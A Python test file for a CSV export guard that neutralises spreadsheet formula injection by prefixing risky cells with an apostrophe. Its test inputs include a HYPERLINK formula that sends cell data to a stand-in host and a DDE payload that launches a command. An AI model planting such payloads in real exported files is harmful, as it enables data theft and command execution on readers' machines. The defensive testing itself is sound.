"""A table as CSV: what a report says must not be carried out by a spreadsheet."""

import csv
import io

import pytest

from musterbook.views.table import Cell, guarded, table


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://elsewhere.test?"&A1,"Open")',
        "+cmd|' /C calc'!A0",
        "-2+3+A1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "-30 % from 2026-01",
    ],
)
def test_a_text_that_would_be_a_formula_is_led_by_an_apostrophe(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["-5", "+1200", "-0.25", "+9400 (8700 – 10000)", "-12 %", "--", "++", "-", "", "a = b", "5-3"],
)
def test_numbers_marks_and_other_texts_stay_as_they_are(text):
    assert guarded(text) == text


def test_the_csv_is_guarded_and_the_json_says_what_was_said():
    rows = [(Cell("-5"), Cell("=1+1"), Cell("2\u202f000"))]
    shown = table("A table", "#change | quote | #people", rows)
    read = list(csv.reader(io.StringIO(shown.to_csv(), newline="")))
    assert read == [["change", "quote", "people"], ["-5", "'=1+1", "2000"]]
    assert shown.to_json() == [{"change": "-5", "quote": "=1+1", "people": "2000"}]
